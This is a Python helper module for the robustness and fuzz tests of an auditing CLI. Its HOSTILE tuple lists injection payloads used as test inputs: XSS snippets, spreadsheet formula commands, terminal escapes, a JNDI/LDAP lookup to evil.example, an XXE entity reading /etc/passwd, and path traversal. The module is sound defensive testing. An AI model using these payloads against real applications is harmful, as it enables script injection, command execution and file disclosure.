"""Shared helpers of the robustness suite (issue 10): run the CLI, hostile strings, limits.

Nothing here is collected by pytest (the module name does not start with ``test_``).
"""

from __future__ import annotations

import contextlib
import functools
import os
import signal
import socket
import urllib.request
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, Phase, settings

from auditor.cli import main
from tests.conftest import EXAMPLES, ROOT, TODAY

TODAY_ARG = TODAY.isoformat()
SARIF_SCHEMA = ROOT / "tests" / "data" / "sarif-schema-2.1.0.json"
EXAMPLE_NAMES = ("hospital", "ministry", "bank", "startup-saas")
SECTIONS = ("entities", "data", "systems")

# ------------------------------------------------------------------ hypothesis profiles
#
# AUDITOR_FUZZ_PROFILE=ci (default) keeps the suite under two minutes on two cores;
# AUDITOR_FUZZ_PROFILE=long runs many more examples per test (see docs/fuzzing.md).
_PROFILES = {
    "ci": {"max_examples": 40},
    "long": {"max_examples": int(os.environ.get("AUDITOR_FUZZ_EXAMPLES", "2000"))},
}
PROFILE_NAME = os.environ.get("AUDITOR_FUZZ_PROFILE", "ci")
if PROFILE_NAME not in _PROFILES:
    raise RuntimeError(f"AUDITOR_FUZZ_PROFILE must be one of {sorted(_PROFILES)}")


def fuzz_settings(scale: float = 1.0) -> Any:
    """Hypothesis settings for one fuzz test; ``scale`` shrinks or grows the example count."""
    examples = max(5, int(_PROFILES[PROFILE_NAME]["max_examples"] * scale))
    phases = list(Phase)
    if PROFILE_NAME == "ci":
        # Shrinking an inventory that makes the audit fail can take minutes: CI reports
        # the failing example as found (with its seed); the long profile shrinks it.
        phases.remove(Phase.shrink)
    return settings(
        max_examples=examples,
        deadline=None,
        phases=phases,
        print_blob=True,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.filter_too_much,
        ],
    )


# Counts reported at the end of the run (tests/robustness/conftest.py prints them).
STATS: dict[str, int] = {"corpus cases": 0, "fuzz examples": 0}


def count(name: str, amount: int = 1) -> None:
    STATS[name] = STATS.get(name, 0) + amount


# ------------------------------------------------------------------ running the CLI


def run_cli(args: Sequence[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    """Run ``auditor ARGS`` in-process; return (exit code, stdout, stderr).

    Anything but a SystemExit escaping ``main`` is a crash and fails the test
    with its traceback, which is exactly what the robustness tests look for.
    """
    capsys.readouterr()  # drop what earlier steps printed
    with pytest.raises(SystemExit) as info:
        main(list(args))
    out, err = capsys.readouterr()
    code = info.value.code
    return (code if isinstance(code, int) else (0 if code is None else 1)), out, err


def audit_args(*paths: str, extra: Sequence[str] = ()) -> list[str]:
    """``audit`` with the flags every robustness run uses (no config, fixed date)."""
    return [
        "audit",
        *paths,
        "--no-config",
        "--today",
        TODAY_ARG,
        "--fail-on",
        "never",
        *extra,
    ]


# ------------------------------------------------------------------ examples as data


def example_doc(name: str) -> dict[str, Any]:
    """All sections of an example merged into one plain document."""
    result: dict[str, Any] = {s: [] for s in SECTIONS}
    for path in sorted((EXAMPLES / name).rglob("*.yaml")):
        doc = yaml.safe_load(path.read_text(encoding="utf-8"))
        for key, value in doc.items():
            if key in SECTIONS:
                result[key].extend(value)
            else:
                result[key] = value
    return result


def dump(doc: Any) -> str:
    """YAML text of ``doc`` (unicode kept, control characters escaped by PyYAML)."""
    return yaml.safe_dump(doc, sort_keys=False, allow_unicode=True, width=1_000_000)


# ------------------------------------------------------------------ hostile strings

HOSTILE: tuple[str, ...] = (
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<!-- hidden --><details open>",
    "[click me](https://evil.example/phish)",
    "![pixel](https://evil.example/track.png)",
    "<https://evil.example/auto>",
    "javascript:alert(1)",
    "| col | break |\n# heading\n---",
    "`code` **bold** _em_ ~~strike~~",
    '=HYPERLINK("https://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;owned title\x07",
    "\x9b31mC1 CSI",
    "back\bspace\rcarriage",
    "\u202eevil\u202c RTL override",
    "zero\u200bwidth\u200d\ufeffjoiner",
    "e\u0301\u0301\u0301 combining",
    "line\u2028separator\u0085next",
    "{{ 7*7 }} {% raw %}${jndi:ldap://evil.example/a}%s%n",
    "]]><?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "url(https://evil.example/x.css) @import url(https://evil.example/y.css);",
    "<link rel=stylesheet href=https://evil.example/z.css>",
    "file:///etc/passwd ../../../../etc/passwd",
    "𝕌𝕟𝕚𝕔𝕠𝕕𝕖 🏴\u200d☠️ 中文 العربية",
)
LONG_STRING = "L" * 20_000
# Control characters that must never reach a terminal or an XML document.
CONTROL = (
    {chr(c) for c in range(0x20) if chr(c) not in "\n"}
    | {chr(0x7F)}
    | {chr(c) for c in range(0x80, 0xA0)}
)


def control_chars_in(text: str, allowed: str = "\n") -> set[str]:
    return {c for c in text if c in CONTROL and c not in allowed}


# ------------------------------------------------------------------ optional writers


@functools.cache
def html_status() -> tuple[bool, str]:
    """Whether the HTML writer is usable at test time, and why not.

    ``auditor/report/html.py`` and ``templates/`` are being written by someone
    else; tests that need the HTML report skip (with this reason) until
    rendering the hospital example works.
    """
    try:
        from auditor.report.html import render_html
    except Exception as exc:  # any import failure: the writer is not there yet
        return False, f"auditor.report.html.render_html does not import: {exc!r}"
    try:
        from auditor.audit import AuditOptions, run_audit

        result = run_audit([EXAMPLES / "hospital"], AuditOptions(today=TODAY))
        render_html(result)
    except Exception as exc:
        return False, f"the HTML writer cannot render the hospital example yet: {exc}"
    return True, ""


def require_html() -> None:
    ready, reason = html_status()
    if not ready:
        pytest.skip(reason)


@functools.cache
def pdf_status() -> tuple[bool, str]:
    try:
        from auditor.report.pdf import render_pdf  # noqa: F401
    except Exception as exc:
        return False, f"auditor.report.pdf.render_pdf does not import: {exc!r}"
    return True, ""


def require_pdf() -> None:
    ready, reason = pdf_status()
    if not ready:
        pytest.skip(reason)


# ------------------------------------------------------------------ guards


class TimeLimit(Exception):
    """Raised inside the code under test when it runs longer than allowed."""


@contextlib.contextmanager
def time_limit(seconds: float) -> Iterator[None]:
    """Raise :class:`TimeLimit` in the main thread after ``seconds`` (Unix only)."""

    def expire(signum: int, frame: object) -> None:
        raise TimeLimit(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


@contextlib.contextmanager
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Refuse and record every attempt to open a network connection or fetch a URL."""
    attempts: list[str] = []

    def refuse(*args: object, **kwargs: object) -> Any:
        attempts.append(repr(args[:2]))
        raise OSError("network access is forbidden in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    yield attempts


def temp_files(folder: Path) -> list[Path]:
    """Leftover temporary files of the atomic writer (``.NAME.XXXX.tmp``)."""
    return sorted(p for p in folder.rglob("*") if p.name.endswith(".tmp"))
